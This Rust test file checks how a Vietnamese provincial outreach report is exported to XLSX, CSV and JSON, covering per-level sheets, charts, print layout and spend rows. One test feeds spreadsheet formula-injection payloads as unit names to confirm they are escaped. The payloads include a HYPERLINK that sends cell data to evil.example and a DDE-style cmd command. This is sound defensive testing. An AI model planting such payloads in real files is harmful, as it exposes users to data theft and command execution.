//! The exports of a small hand-built report, read back: XLSX with calamine (its print
//! setup and chart from the XML parts), CSV with `from_csv`, JSON with serde.

use std::collections::BTreeMap;
use std::io::{Cursor, Read};

use calamine::{Data, DataType, Range, Reader, Xlsx, open_workbook_from_rs};
use chrono::{NaiveDate, TimeZone, Utc};
use outreach_core::contact::Channel;
use outreach_core::org::Level;
use outreach_core::outcome::MetricKind;
use outreach_core::report::{QuarterlyReport, ReportRow, SpendRow, Status, Unattributed};
use outreach_report::{
    HEADERS, SPEND_SHEET, XLSX_FIRST_DATA_ROW, XLSX_HEADER_ROW, XLSX_TITLE_ROW, from_csv, level_label, to_csv, to_json,
    to_xlsx,
};

const BOM: &[u8] = b"\xEF\xBB\xBF";
/// Columns of the shared layout the tests look at.
const CODE: u32 = 0;
const QUARTER: u32 = 6;
const YTD: u32 = 7;
const YTD_NUMERATOR: u32 = 10;
const YTD_DENOMINATOR: u32 = 11;
const TARGET: u32 = 12;
const MILESTONE: u32 = 13;
const PERCENT: u32 = 14;
const STATUS: u32 = 15;
/// The chart's data, one blank column right of the table.
const CHART_NAME: u32 = 18;
const CHART_VALUE: u32 = 19;

fn unit(code: &str, name: &str, level: Level, parent: Option<&str>, metric: &str, kind: MetricKind) -> ReportRow {
    ReportRow {
        code: code.into(),
        name: name.into(),
        level,
        parent_code: parent.map(Into::into),
        metric: metric.into(),
        kind,
        quarter_value: None,
        ytd_value: None,
        quarter_numerator: None,
        quarter_denominator: None,
        ytd_numerator: None,
        ytd_denominator: None,
        target: None,
        milestone: None,
        percent_of_milestone: None,
        status: None,
    }
}

/// A count with a year's target whose second-quarter milestone is half of it.
fn count(u: (&str, &str, Level, Option<&str>), metric: &str, quarter: i64, ytd: i64, target: f64) -> ReportRow {
    let milestone = target * 0.5;
    let percent = ytd as f64 / milestone * 100.0;
    ReportRow {
        quarter_value: Some(quarter as f64),
        ytd_value: Some(ytd as f64),
        target: Some(target),
        milestone: Some(milestone),
        percent_of_milestone: Some(percent),
        status: Some(Status::of_percent(percent)),
        ..unit(u.0, u.1, u.2, u.3, metric, MetricKind::Count)
    }
}

/// The online-dossier ratio from its parts, against a milestone of 0.7 when `targeted`.
fn ratio(u: (&str, &str, Level, Option<&str>), quarter: (i64, i64), ytd: (i64, i64), targeted: bool) -> ReportRow {
    let divide = |(n, d): (i64, i64)| (d > 0).then(|| n as f64 / d as f64);
    let mut row = ReportRow {
        quarter_value: divide(quarter),
        ytd_value: divide(ytd),
        quarter_numerator: Some(quarter.0),
        quarter_denominator: Some(quarter.1),
        ytd_numerator: Some(ytd.0),
        ytd_denominator: Some(ytd.1),
        ..unit(u.0, u.1, u.2, u.3, "online_dossier_ratio", MetricKind::Ratio)
    };
    if targeted {
        row.target = Some(0.8);
        row.milestone = Some(0.7);
        row.percent_of_milestone = row.ytd_value.map(|v| v / 0.7 * 100.0);
        row.status = Some(row.percent_of_milestone.map_or(Status::NoData, Status::of_percent));
    }
    row
}

const PROVINCE: (&str, &str, Level, Option<&str>) = ("01", "Tỉnh Thử Nghiệm", Level::Province, None);
const DISTRICT_1: (&str, &str, Level, Option<&str>) = ("001", "Huyện Một", Level::District, Some("01"));
const DISTRICT_2: (&str, &str, Level, Option<&str>) = ("002", "Huyện Hai", Level::District, Some("01"));
const COMMUNE_AN: (&str, &str, Level, Option<&str>) = ("00001", "Xã An", Level::Commune, Some("001"));
const COMMUNE_BINH: (&str, &str, Level, Option<&str>) = ("00002", "Xã Bình", Level::Commune, Some("001"));
const COMMUNE_CHAU: (&str, &str, Level, Option<&str>) = ("00003", "Xã Châu", Level::Commune, Some("002"));

fn report(rows: Vec<ReportRow>) -> QuarterlyReport {
    QuarterlyReport {
        org_code: "01".into(),
        org_name: "Tỉnh Thử Nghiệm".into(),
        year: 2025,
        quarter: 2,
        as_of: NaiveDate::from_ymd_opt(2025, 6, 30).unwrap(),
        generated_at: Utc.with_ymd_and_hms(2025, 7, 1, 1, 2, 3).unwrap(),
        tallies_read: 42,
        rows,
        unattributed: Vec::new(),
        spend: Vec::new(),
    }
}

/// A province, two districts and three communes, unit by unit as the report orders them.
fn province_report() -> QuarterlyReport {
    let d = "dossiers_supported";
    report(vec![
        count(PROVINCE, d, 30, 112, 300.0),
        ratio(PROVINCE, (49, 62), (121, 181), false),
        count(DISTRICT_1, d, 20, 87, 180.0),
        ratio(DISTRICT_1, (40, 50), (100, 145), true),
        count(COMMUNE_AN, d, 12, 55, 100.0),
        ratio(COMMUNE_AN, (40, 50), (70, 100), true),
        count(COMMUNE_BINH, d, 8, 32, 80.0),
        ratio(COMMUNE_BINH, (0, 0), (30, 45), true),
        count(DISTRICT_2, d, 10, 25, 120.0),
        ratio(DISTRICT_2, (9, 12), (21, 36), true),
        count(COMMUNE_CHAU, d, 10, 25, 120.0),
        ratio(COMMUNE_CHAU, (9, 12), (21, 36), true),
    ])
}

/// After the 2025 reform: communes directly under the province.
fn reformed_report() -> QuarterlyReport {
    let d = "dossiers_supported";
    let an = ("00001", "Xã An", Level::Commune, Some("01"));
    let binh = ("00002", "Xã Bình", Level::Commune, Some("01"));
    report(vec![
        count(PROVINCE, d, 20, 87, 180.0),
        ratio(PROVINCE, (40, 50), (100, 145), true),
        count(an, d, 12, 55, 100.0),
        ratio(an, (40, 50), (70, 100), true),
        count(binh, d, 8, 32, 80.0),
        ratio(binh, (0, 0), (30, 45), true),
    ])
}

fn open(bytes: Vec<u8>) -> Xlsx<Cursor<Vec<u8>>> {
    open_workbook_from_rs(Cursor::new(bytes)).expect("a readable workbook")
}

fn sheet(workbook: &mut Xlsx<Cursor<Vec<u8>>>, name: &str) -> Range<Data> {
    workbook.worksheet_range(name).expect("the sheet")
}

fn text(range: &Range<Data>, row: u32, col: u32) -> String {
    range
        .get_value((row, col))
        .and_then(|c| c.get_string())
        .unwrap_or_default()
        .to_string()
}

fn number(range: &Range<Data>, row: u32, col: u32) -> Option<f64> {
    match range.get_value((row, col))? {
        Data::Float(v) => Some(*v),
        Data::Int(v) => Some(*v as f64),
        _ => None,
    }
}

fn is_blank(range: &Range<Data>, row: u32, col: u32) -> bool {
    range.get_value((row, col)).is_none_or(|c| c.is_empty())
}

fn close(a: Option<f64>, b: f64, tolerance: f64) -> bool {
    a.is_some_and(|a| (a - b).abs() <= tolerance)
}

/// The parts of a workbook, by their path in the zip, as text.
fn parts(bytes: &[u8]) -> BTreeMap<String, String> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).expect("an XLSX is a zip");
    (0..zip.len())
        .map(|i| {
            let mut part = zip.by_index(i).unwrap();
            let name = part.name().unwrap().to_string();
            let mut text = String::new();
            part.read_to_string(&mut text).unwrap();
            (name, text)
        })
        .collect()
}

fn part<'a>(parts: &'a BTreeMap<String, String>, name: &str) -> &'a str {
    parts
        .get(name)
        .unwrap_or_else(|| panic!("no {name} in {:?}", parts.keys()))
}

/// Check the page setup of the table sheet `sheet_xml`, whose index in the workbook is
/// `index`, and its defined names: print `area` (`Tỉnh!$A$1:$Q$4`), its first two rows
/// repeated on each page.
fn assert_prints_one_page_wide(parts: &BTreeMap<String, String>, sheet_xml: &str, index: usize, area: &str) {
    let xml = part(parts, sheet_xml);
    let workbook = part(parts, "xl/workbook.xml");
    let sheet = area.split('!').next().unwrap();
    assert!(
        workbook.contains(&format!(
            r#"<definedName name="_xlnm.Print_Area" localSheetId="{index}">{area}</definedName>"#
        )),
        "{sheet_xml}: print area {area} in {workbook}"
    );
    assert!(
        workbook.contains(&format!(
            r#"<definedName name="_xlnm.Print_Titles" localSheetId="{index}">{sheet}!$1:$2</definedName>"#
        )),
        "{sheet_xml}: title rows in {workbook}"
    );
    assert!(xml.contains(r#"<pageSetUpPr fitToPage="1"/>"#), "{sheet_xml}: {xml}");
    let setup = xml
        .split("<pageSetup ")
        .nth(1)
        .expect("a pageSetup")
        .split("/>")
        .next()
        .unwrap();
    // Excel leaves out fitToWidth when it is 1, its default.
    assert!(
        !setup.contains("fitToWidth") || setup.contains(r#"fitToWidth="1""#),
        "{sheet_xml}: {setup}"
    );
    assert!(setup.contains(r#"fitToHeight="0""#), "{sheet_xml}: {setup}");
    assert!(setup.contains(r#"orientation="landscape""#), "{sheet_xml}: {setup}");
    assert!(setup.contains(r#"paperSize="9""#), "{sheet_xml}: A4, {setup}");
    assert!(
        xml.contains("<oddFooter>&amp;CTrang &amp;P/&amp;N</oddFooter>"),
        "{sheet_xml}: page numbers, {xml}"
    );
    assert!(xml.contains(r#"state="frozen""#), "{sheet_xml}: frozen panes, {xml}");
}

/// Check the workbook's one chart is alone on the chart sheet, the only sheet with a
/// drawing, which prints on one landscape A4 page; return the chart's XML.
fn assert_chart_on_a_page_of_its_own(parts: &BTreeMap<String, String>) -> &str {
    assert!(!parts.contains_key("xl/charts/chart2.xml"), "one chart");
    let chartsheet = part(parts, "xl/chartsheets/sheet1.xml");
    assert!(chartsheet.contains("<drawing r:id="), "{chartsheet}");
    assert!(
        chartsheet.contains(r#"<pageSetup paperSize="9" orientation="landscape""#),
        "{chartsheet}"
    );
    assert!(chartsheet.contains("&amp;CTrang &amp;P/&amp;N"), "{chartsheet}");
    assert!(part(parts, "xl/chartsheets/_rels/sheet1.xml.rels").contains("../drawings/drawing1.xml"));
    assert!(part(parts, "xl/drawings/_rels/drawing1.xml.rels").contains("../charts/chart1.xml"));
    for (name, xml) in parts.iter().filter(|(n, _)| n.starts_with("xl/worksheets/sheet")) {
        assert!(!xml.contains("<drawing "), "no chart on the table sheet {name}");
    }
    part(parts, "xl/charts/chart1.xml")
}

#[test]
fn xlsx_has_a_sheet_per_level_with_vietnamese_headers_and_figures() {
    let bytes = to_xlsx(&province_report()).unwrap();
    let chart = assert_chart_on_a_page_of_its_own(&parts(&bytes)).to_string();
    assert!(
        chart.contains("<c:f>Huyện!$S$3:$S$4</c:f>"),
        "of the districts: {chart}"
    );

    let mut workbook = open(bytes);
    assert_eq!(workbook.sheet_names(), ["Tỉnh", "Huyện", "Xã", "Biểu đồ"]);
    for name in ["Tỉnh", "Huyện", "Xã"] {
        let range = sheet(&mut workbook, name);
        assert!(text(&range, XLSX_TITLE_ROW, 0).starts_with("Báo cáo quý 2/2025 — Tỉnh Thử Nghiệm"));
        for (col, header) in HEADERS.iter().enumerate() {
            assert_eq!(
                text(&range, XLSX_HEADER_ROW, col as u32),
                *header,
                "{name} column {col}"
            );
        }
    }

    // Huyện Một's count, then its ratio, then Huyện Hai's.
    let districts = sheet(&mut workbook, "Huyện");
    let first = XLSX_FIRST_DATA_ROW;
    assert_eq!(text(&districts, first, CODE), "001");
    assert_eq!(text(&districts, first, 2), "Huyện");
    assert_eq!(text(&districts, first, 5), "Hồ sơ trực tuyến được hỗ trợ");
    assert_eq!(number(&districts, first, QUARTER), Some(20.0));
    assert_eq!(number(&districts, first, YTD), Some(87.0));
    assert_eq!(number(&districts, first, TARGET), Some(180.0));
    assert_eq!(number(&districts, first, MILESTONE), Some(90.0));
    assert!(close(number(&districts, first, PERCENT), 87.0 / 90.0 * 100.0, 1e-9));
    assert_eq!(text(&districts, first, STATUS), "Có nguy cơ chậm");
    assert_eq!(text(&districts, first, 16), "at_risk");
    assert!(is_blank(&districts, first, YTD_NUMERATOR), "a count has no numerator");
    assert_eq!(text(&districts, first + 1, 4), "online_dossier_ratio");
    assert_eq!(number(&districts, first + 1, YTD_NUMERATOR), Some(100.0));
    assert_eq!(number(&districts, first + 1, YTD_DENOMINATOR), Some(145.0));
    assert!(close(number(&districts, first + 1, YTD), 100.0 / 145.0, 1e-12));
    assert_eq!(text(&districts, first + 2, CODE), "002");
    assert_eq!(number(&districts, first + 2, YTD), Some(25.0));

    // The chart's data: one line per district.
    assert_eq!(text(&districts, XLSX_HEADER_ROW, CHART_VALUE), "% so với mốc");
    assert_eq!(text(&districts, first, CHART_NAME), "Huyện Một");
    assert!(close(number(&districts, first, CHART_VALUE), 87.0 / 90.0 * 100.0, 1e-9));
    assert_eq!(text(&districts, first + 1, CHART_NAME), "Huyện Hai");
    assert!(is_blank(&districts, first + 2, CHART_NAME));

    // The province's ratio has no target: blank cells, not zeros.
    let province = sheet(&mut workbook, "Tỉnh");
    assert_eq!(text(&province, first + 1, CODE), "01");
    assert!(is_blank(&province, first + 1, TARGET));
    assert!(is_blank(&province, first + 1, PERCENT));
    assert!(is_blank(&province, first + 1, STATUS));
    assert!(is_blank(&province, first, 3), "the root has no parent");

    // A quarter with nothing to divide stays blank.
    let communes = sheet(&mut workbook, "Xã");
    assert_eq!(text(&communes, first + 3, CODE), "00002");
    assert!(is_blank(&communes, first + 3, QUARTER));
    assert!(close(number(&communes, first + 3, YTD), 30.0 / 45.0, 1e-12));
    assert_eq!(text(&communes, first + 5, CODE), "00003");
}

#[test]
fn xlsx_without_districts_charts_the_communes() {
    let bytes = to_xlsx(&reformed_report()).unwrap();
    let chart = assert_chart_on_a_page_of_its_own(&parts(&bytes)).to_string();
    assert!(chart.contains("<c:f>Xã!$S$3:$S$4</c:f>"), "of the communes: {chart}");
    assert!(
        chart.contains("Tiến độ hồ sơ trực tuyến được hỗ trợ theo xã (% so với mốc)"),
        "{chart}"
    );
    let mut workbook = open(bytes);
    assert_eq!(workbook.sheet_names(), ["Tỉnh", "Xã", "Biểu đồ"]);
    let communes = sheet(&mut workbook, "Xã");
    assert_eq!(text(&communes, XLSX_FIRST_DATA_ROW, CHART_NAME), "Xã An");
    assert!(close(number(&communes, XLSX_FIRST_DATA_ROW, CHART_VALUE), 110.0, 1e-9));
    assert_eq!(text(&communes, XLSX_FIRST_DATA_ROW + 1, CHART_NAME), "Xã Bình");
    assert!(close(
        number(&communes, XLSX_FIRST_DATA_ROW + 1, CHART_VALUE),
        80.0,
        1e-9
    ));
}

#[test]
fn xlsx_charts_another_count_when_dossiers_have_no_milestone() {
    let mut r = reformed_report();
    for row in r.rows.iter_mut().filter(|r| r.metric == "dossiers_supported") {
        (row.target, row.milestone, row.percent_of_milestone, row.status) = (None, None, None, None);
    }
    r.rows.push(count(
        ("00001", "Xã An", Level::Commune, Some("01")),
        "youth_trained",
        5,
        30,
        40.0,
    ));
    let mut workbook = open(to_xlsx(&r).unwrap());
    let communes = sheet(&mut workbook, "Xã");
    assert_eq!(
        text(&communes, XLSX_TITLE_ROW, CHART_NAME),
        "Lượt đoàn viên thanh niên được tập huấn"
    );
    assert!(close(number(&communes, XLSX_FIRST_DATA_ROW, CHART_VALUE), 150.0, 1e-9));
}

#[test]
fn xlsx_without_milestones_charts_the_quarter_figures_and_lists_unattributed_figures() {
    let mut r = reformed_report();
    for row in &mut r.rows {
        (row.target, row.milestone, row.percent_of_milestone, row.status) = (None, None, None, None);
    }
    r.unattributed.push(Unattributed {
        unit_code: "09999".into(),
        quarter: 1,
        metric: "dossiers_supported".into(),
        value: 7,
    });
    let bytes = to_xlsx(&r).unwrap();
    let parts = parts(&bytes);
    let chart = assert_chart_on_a_page_of_its_own(&parts);
    assert!(
        chart.contains("Hồ sơ trực tuyến được hỗ trợ trong quý 2/2025 theo xã"),
        "{chart}"
    );
    assert!(!chart.contains("% so với mốc"), "{chart}");
    assert_prints_one_page_wide(&parts, "xl/worksheets/sheet3.xml", 3, "'Chưa phân bổ'!$A$1:$E$3");

    let mut workbook = open(bytes);
    assert_eq!(workbook.sheet_names(), ["Tỉnh", "Xã", "Biểu đồ", "Chưa phân bổ"]);
    let communes = sheet(&mut workbook, "Xã");
    assert_eq!(text(&communes, XLSX_HEADER_ROW, CHART_VALUE), "Quý");
    assert_eq!(text(&communes, XLSX_FIRST_DATA_ROW, CHART_NAME), "Xã An");
    assert_eq!(number(&communes, XLSX_FIRST_DATA_ROW, CHART_VALUE), Some(12.0));
    assert_eq!(text(&communes, XLSX_FIRST_DATA_ROW + 1, CHART_NAME), "Xã Bình");
    assert_eq!(number(&communes, XLSX_FIRST_DATA_ROW + 1, CHART_VALUE), Some(8.0));
    let unattributed = sheet(&mut workbook, "Chưa phân bổ");
    assert_eq!(text(&unattributed, XLSX_FIRST_DATA_ROW, 0), "09999");
    assert_eq!(number(&unattributed, XLSX_FIRST_DATA_ROW, 4), Some(7.0));
}

#[test]
fn xlsx_prints_each_table_one_page_wide_with_its_titles_on_every_page() {
    let parts = parts(&to_xlsx(&province_report()).unwrap());
    // Title and column titles, then 2, 4 and 6 rows; columns A to Q, not the chart's data.
    assert_prints_one_page_wide(&parts, "xl/worksheets/sheet1.xml", 0, "Tỉnh!$A$1:$Q$4");
    assert_prints_one_page_wide(&parts, "xl/worksheets/sheet2.xml", 1, "Huyện!$A$1:$Q$6");
    assert_prints_one_page_wide(&parts, "xl/worksheets/sheet3.xml", 2, "Xã!$A$1:$Q$8");
}

#[test]
fn xlsx_of_200_communes_charts_the_30_furthest_behind() {
    let d = "dossiers_supported";
    let mut rows = vec![count(PROVINCE, d, 2000, 8000, 20000.0)];
    // Commune i is at (i * 37 mod 200) % of its milestone: every figure once, out of order.
    let communes: Vec<(String, String, i64)> = (0..200)
        .map(|i| (format!("{:05}", i + 1), format!("Xã Số {}", i + 1), i * 37 % 200))
        .collect();
    for (code, name, percent) in &communes {
        rows.push(count(
            (code.as_str(), name.as_str(), Level::Commune, Some("01")),
            d,
            1,
            *percent,
            200.0,
        ));
    }
    let bytes = to_xlsx(&report(rows)).unwrap();
    let parts = parts(&bytes);
    assert_prints_one_page_wide(&parts, "xl/worksheets/sheet2.xml", 1, "Xã!$A$1:$Q$202");
    let chart = assert_chart_on_a_page_of_its_own(&parts);
    assert!(chart.contains("<c:f>Xã!$S$3:$S$32</c:f>"), "30 bars: {chart}");
    assert!(
        chart.contains("Tiến độ hồ sơ trực tuyến được hỗ trợ: 30 xã thấp nhất trong 200 xã (% so với mốc)"),
        "{chart}"
    );

    let mut workbook = open(bytes);
    let sheet = sheet(&mut workbook, "Xã");
    let mut lowest: Vec<&(String, String, i64)> = communes.iter().collect();
    lowest.sort_by_key(|c| c.2);
    for (i, (_, name, percent)) in lowest.into_iter().take(30).enumerate() {
        let row = XLSX_FIRST_DATA_ROW + i as u32;
        assert_eq!(text(&sheet, row, CHART_NAME), *name, "bar {i}");
        assert!(
            close(number(&sheet, row, CHART_VALUE), *percent as f64, 1e-9),
            "bar {i}"
        );
    }
    assert!(is_blank(&sheet, XLSX_FIRST_DATA_ROW + 30, CHART_NAME));
}

#[test]
fn empty_report_still_makes_a_workbook() {
    let bytes = to_xlsx(&report(Vec::new())).unwrap();
    open(bytes);
}

#[test]
fn csv_starts_with_a_bom_and_vietnamese_headers() {
    let bytes = to_csv(&province_report());
    assert!(bytes.starts_with(BOM));
    let text = std::str::from_utf8(&bytes[BOM.len()..]).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[0],
        "Mã đơn vị,Tên đơn vị,Cấp,Mã đơn vị cấp trên,Chỉ tiêu (mã),Chỉ tiêu,Quý,Lũy kế năm,Tử số quý,Mẫu số quý,\
         Tử số lũy kế,Mẫu số lũy kế,Kế hoạch năm,Mốc quý,% so với mốc,Trạng thái,Mã trạng thái"
    );
    assert_eq!(lines.len(), 1 + province_report().rows.len());
    assert_eq!(
        lines[3],
        "001,Huyện Một,Huyện,01,dossiers_supported,Hồ sơ trực tuyến được hỗ trợ,20,87,,,,,180,90,96.7,Có nguy cơ chậm,at_risk"
    );
    assert_eq!(
        lines[4],
        "001,Huyện Một,Huyện,01,online_dossier_ratio,\"Tỷ lệ hồ sơ trực tuyến mức độ 3, 4\",0.8,0.6897,40,50,100,145,0.8,0.7,98.5,Có nguy cơ chậm,at_risk"
    );
    assert_eq!(
        lines[2],
        "01,Tỉnh Thử Nghiệm,Tỉnh,,online_dossier_ratio,\"Tỷ lệ hồ sơ trực tuyến mức độ 3, 4\",0.7903,0.6685,49,62,121,181,,,,,"
    );
}

#[test]
fn csv_round_trips_every_row() {
    let r = province_report();
    let back = from_csv(&to_csv(&r)).unwrap();
    assert_eq!(back.len(), r.rows.len());
    let near = |a: Option<f64>, b: Option<f64>, tolerance: f64| match (a, b) {
        (Some(a), Some(b)) => (a - b).abs() <= tolerance,
        (a, b) => a == b,
    };
    for (row, line) in r.rows.iter().zip(&back) {
        let at = format!("{} {}", row.code, row.metric);
        assert_eq!(line.code, row.code, "{at}");
        assert_eq!(line.name, row.name, "{at}");
        assert_eq!(line.level, level_label(row.level), "{at}");
        assert_eq!(line.parent_code, row.parent_code, "{at}");
        assert_eq!(line.metric, row.metric, "{at}");
        assert_eq!(line.quarter_numerator, row.quarter_numerator, "{at}");
        assert_eq!(line.quarter_denominator, row.quarter_denominator, "{at}");
        assert_eq!(line.ytd_numerator, row.ytd_numerator, "{at}");
        assert_eq!(line.ytd_denominator, row.ytd_denominator, "{at}");
        // Counts come back exactly, ratios to 4 decimals, percentages to 1.
        assert!(near(line.quarter_value, row.quarter_value, 5e-5), "{at}");
        assert!(near(line.ytd_value, row.ytd_value, 5e-5), "{at}");
        assert!(near(line.target, row.target, 5e-5), "{at}");
        assert!(near(line.milestone, row.milestone, 5e-5), "{at}");
        assert!(near(line.percent_of_milestone, row.percent_of_milestone, 0.05), "{at}");
        assert_eq!(line.status.as_deref(), row.status.map(|s| s.as_str()), "{at}");
        assert_eq!(line.status_label.as_deref(), row.status.map(|s| s.label()), "{at}");
        if row.kind == MetricKind::Count {
            assert_eq!(line.ytd_value, row.ytd_value, "{at}");
        }
    }
    assert_eq!(back[1].metric_label, "Tỷ lệ hồ sơ trực tuyến mức độ 3, 4");
}

#[test]
fn csv_with_a_bad_number_names_its_line_and_column() {
    let csv = String::from_utf8(to_csv(&province_report())).unwrap();
    let broken = csv.replacen(",20,87,", ",20,tám,", 1);
    let err = from_csv(broken.as_bytes()).unwrap_err();
    assert!(err.to_string().contains("line 4"), "{err}");
    assert!(err.to_string().contains("Lũy kế năm"), "{err}");
}

#[test]
fn json_round_trips() {
    let r = province_report();
    let back: QuarterlyReport = serde_json::from_slice(&to_json(&r)).unwrap();
    assert_eq!(back, r);
}

#[test]
fn unit_names_that_are_formulas_stay_text_in_csv_and_xlsx() {
    let names = [
        "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Bấm vào đây\")",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(A1:A9)",
        "\tXã Tab",
        "\rXã CR",
    ];
    let rows = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let code = format!("0720{i}");
            count(
                (&code, name, Level::Commune, Some("01")),
                "dossiers_supported",
                1,
                2,
                10.0,
            )
        })
        .collect();
    let r = report(rows);
    let bytes = to_csv(&r);
    let mut reader = csv::Reader::from_reader(&bytes[BOM.len()..]);
    for (record, name) in reader.records().zip(names) {
        let cell = record.unwrap()[1].to_string();
        assert_eq!(cell, format!("'{name}"), "the CSV cell of {name:?}");
    }
    let back = from_csv(&bytes).unwrap();
    assert_eq!(back.iter().map(|l| l.name.as_str()).collect::<Vec<_>>(), names);
    let mut workbook = open(to_xlsx(&r).unwrap());
    let communes = sheet(&mut workbook, "Xã");
    let cells: Vec<String> = (XLSX_FIRST_DATA_ROW..XLSX_FIRST_DATA_ROW + names.len() as u32)
        .map(|row| text(&communes, row, 1))
        .collect();
    assert_eq!(cells, names, "XLSX keeps each name as a string cell");
}

/// The spend of a province and one commune: SMS (2 of them ZNS fallbacks), email, ZNS.
fn spend(u: (&str, &str, Level, Option<&str>), sms: (u64, u64, u64, u64), email: u64, zns: u64) -> Vec<SpendRow> {
    let row = |channel, messages, segments, cost_milli_vnd: u64, zns_fallbacks| SpendRow {
        code: u.0.into(),
        name: u.1.into(),
        level: u.2,
        parent_code: u.3.map(Into::into),
        channel,
        messages,
        segments,
        cost_milli_vnd,
        cost_vnd: outreach_core::cost::vnd(cost_milli_vnd),
        zns_fallbacks,
    };
    vec![
        row(Channel::Sms, sms.0, sms.1, sms.2, sms.3),
        row(Channel::Email, email, email, email * 2_600, 0),
        row(Channel::Zns, zns, zns, zns * 300_000, 0),
    ]
}

fn report_with_spend() -> QuarterlyReport {
    let mut r = province_report();
    r.spend = spend(PROVINCE, (12, 15, 3_250_000, 2), 4, 7);
    r.spend.extend(spend(COMMUNE_AN, (5, 6, 1_400_000, 1), 1, 3));
    r
}

#[test]
fn csv_lists_the_spend_per_unit_and_channel_after_the_metrics() {
    let r = report_with_spend();
    let back = from_csv(&to_csv(&r)).unwrap();
    let spend: Vec<_> = back[r.rows.len()..].iter().collect();
    assert_eq!(spend.len(), 16, "8 figures a unit: {spend:?}");
    let figure = |code: &str, metric: &str| {
        spend
            .iter()
            .find(|l| l.code == code && l.metric == metric)
            .and_then(|l| l.quarter_value)
    };
    assert_eq!(figure("01", "sms_messages"), Some(12.0));
    assert_eq!(figure("01", "sms_segments"), Some(15.0));
    assert_eq!(figure("01", "sms_cost_vnd"), Some(3_250.0));
    assert_eq!(figure("01", "sms_zns_fallbacks"), Some(2.0));
    assert_eq!(figure("01", "email_cost_vnd"), Some(10.0), "4 × 2.6 đ, rounded once");
    assert_eq!(figure("01", "zns_cost_vnd"), Some(2_100.0));
    assert_eq!(figure("00001", "zns_messages"), Some(3.0));
    let line = spend.iter().find(|l| l.metric == "sms_cost_vnd").unwrap();
    assert_eq!(line.metric_label, "Chi phí SMS (đồng)");
    assert_eq!(line.level, "Tỉnh");
    assert_eq!(
        (line.ytd_value, line.target, line.status.as_deref()),
        (None, None, None)
    );
}

#[test]
fn xlsx_has_a_spend_sheet_with_a_line_per_unit_and_channel() {
    let r = report_with_spend();
    let mut workbook = open(to_xlsx(&r).unwrap());
    assert_eq!(workbook.sheet_names(), ["Tỉnh", "Huyện", "Xã", "Biểu đồ", SPEND_SHEET]);
    assert_eq!(SPEND_SHEET, "Chi phí tin nhắn");
    let s = sheet(&mut workbook, SPEND_SHEET);
    assert!(text(&s, XLSX_TITLE_ROW, 0).contains("chi phí tin nhắn"));
    assert_eq!(text(&s, XLSX_HEADER_ROW, 4), "Kênh");
    assert_eq!(text(&s, XLSX_HEADER_ROW, 7), "Chi phí (đồng)");
    let first = XLSX_FIRST_DATA_ROW;
    assert_eq!(text(&s, first, CODE), "01");
    assert_eq!(text(&s, first, 4), "SMS");
    assert_eq!(number(&s, first, 5), Some(12.0));
    assert_eq!(number(&s, first, 6), Some(15.0));
    assert_eq!(number(&s, first, 7), Some(3_250.0));
    assert_eq!(number(&s, first, 8), Some(2.0));
    assert_eq!(text(&s, first + 2, 4), "Zalo ZNS");
    assert_eq!(number(&s, first + 2, 7), Some(2_100.0));
    assert!(is_blank(&s, first + 2, 8), "fallbacks only on the SMS line");
    assert_eq!(text(&s, first + 3, CODE), "00001");
    assert_eq!(text(&s, first + 3, 3), "001");
    assert!(is_blank(&s, first + 6, CODE), "six lines");
    // Without spend (a report from before it was kept), no sheet.
    let workbook = open(to_xlsx(&province_report()).unwrap());
    assert!(!workbook.sheet_names().contains(&SPEND_SHEET.to_string()));
}

#[test]
fn a_stored_report_without_spend_still_reads() {
    let r = report_with_spend();
    let back: QuarterlyReport = serde_json::from_slice(&to_json(&r)).unwrap();
    assert_eq!(back, r);
    let mut old = serde_json::to_value(province_report()).unwrap();
    old.as_object_mut().unwrap().remove("spend");
    let back: QuarterlyReport = serde_json::from_value(old).unwrap();
    assert!(back.spend.is_empty());
}
